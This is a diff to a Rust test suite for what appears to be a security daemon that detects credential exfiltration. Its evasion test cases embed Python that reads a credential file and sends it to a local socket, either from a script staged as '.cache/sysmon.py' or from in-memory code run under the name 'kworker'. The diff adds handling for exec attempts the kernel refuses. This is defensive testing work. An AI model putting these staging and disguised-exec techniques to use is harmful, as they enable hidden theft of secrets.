@@ -138,7 +138,7 @@ const CASES: &[Case] = &[
     },
     Case {
         name: "dropped-to-disk-and-run",
-        read: "import subprocess\nstage = os.path.join(home, '.cache', 'sysmon.py')\nos.makedirs(os.path.dirname(stage), exist_ok=True)\nwith open(stage, 'w') as f:\n    f.write('#!/usr/bin/python3.11\\nimport os, socket\\nblob = open(%r, \"rb\").read()\\ntry:\\n    s = socket.create_connection((\"127.0.0.1\", PORT), timeout=5)\\n    s.sendall(blob)\\n    print(\"sent\")\\nexcept OSError as e:\\n    print(\"error %%d\" %% e.errno)\\n' % cred)\nos.chmod(stage, 0o755)\nr = subprocess.run([stage], capture_output=True, text=True).stdout.strip()\n",
+        read: "import subprocess\nstage = os.path.join(home, '.cache', 'sysmon.py')\nos.makedirs(os.path.dirname(stage), exist_ok=True)\nwith open(stage, 'w') as f:\n    f.write('#!/usr/bin/python3.11\\nimport os, socket\\nblob = open(%r, \"rb\").read()\\ntry:\\n    s = socket.create_connection((\"127.0.0.1\", PORT), timeout=5)\\n    s.sendall(blob)\\n    print(\"sent\")\\nexcept OSError as e:\\n    print(\"error %%d\" %% e.errno)\\n' % cred)\nos.chmod(stage, 0o755)\ntry:\n    r = subprocess.run([stage], capture_output=True, text=True).stdout.strip()\nexcept OSError as e:\n    r = 'error %d' % e.errno\n",
         sends_itself: true,
         udp: false,
         env: &[],
@@ -146,7 +146,7 @@ const CASES: &[Case] = &[
     },
     Case {
         name: "memfd-exec",
-        read: "import subprocess\nm = os.memfd_create('kworker', 0)\nos.write(m, ('#!/usr/bin/python3.11\\nimport os, socket\\nblob = open(%r, \"rb\").read()\\ntry:\\n    s = socket.create_connection((\"127.0.0.1\", PORT), timeout=5)\\n    s.sendall(blob)\\n    print(\"sent\")\\nexcept OSError as e:\\n    print(\"error %%d\" %% e.errno)\\n' % cred).encode())\nr = subprocess.run(['/proc/self/fd/%d' % m], pass_fds=[m], capture_output=True, text=True).stdout.strip()\n",
+        read: "import subprocess\nm = os.memfd_create('kworker', 0)\nos.write(m, ('#!/usr/bin/python3.11\\nimport os, socket\\nblob = open(%r, \"rb\").read()\\ntry:\\n    s = socket.create_connection((\"127.0.0.1\", PORT), timeout=5)\\n    s.sendall(blob)\\n    print(\"sent\")\\nexcept OSError as e:\\n    print(\"error %%d\" %% e.errno)\\n' % cred).encode())\ntry:\n    r = subprocess.run(['/proc/self/fd/%d' % m], pass_fds=[m], capture_output=True, text=True).stdout.strip()\nexcept OSError as e:\n    r = 'error %d' % e.errno\n",
         sends_itself: true,
         udp: false,
         env: &[],
@@ -178,8 +178,10 @@ fn run_case(case: &Case) {
     let (status, out) = run_bounded(cmd.args(["-c", "pass"]), Duration::from_secs(60));
     assert_eq!(status, 0, "{}: {out}", case.name);
     let done = wait_marker(&sb, Duration::from_secs(20));
+    // A staged program may never run at all: where the kernel refuses the exec (the LSM
+    // backend), that refusal is the block, and nothing is read or sent.
     let alert = daemon.wait_alert(Duration::from_secs(10), |a| {
-        a["rule"] == "hook_credential_exfiltration"
+        a["rule"] == "hook_credential_exfiltration" || exec_refused(a)
     });
     let also = case
         .also
@@ -205,6 +207,15 @@ fn run_case(case: &Case) {
         "{}: {alert:#}",
         case.name
     );
+    if exec_refused(&alert) {
+        assert_eq!(
+            case.also,
+            Some("hook_exec_written_file"),
+            "{}: {alert:#}",
+            case.name
+        );
+        return;
+    }
     if let (Some(rule), Some(found)) = (case.also, also) {
         assert!(
             found.is_some(),
@@ -212,6 +223,14 @@ fn run_case(case: &Case) {
             case.name
         );
     }
+}
+
+/// A `hook_exec_written_file` alert for an exec the kernel refused.
+fn exec_refused(alert: &serde_json::Value) -> bool {
+    alert["rule"] == "hook_exec_written_file"
+        && alert["summary"]
+            .as_str()
+            .is_some_and(|s| s.contains("the kernel refused"))
 }
 
 macro_rules! evasion_tests {
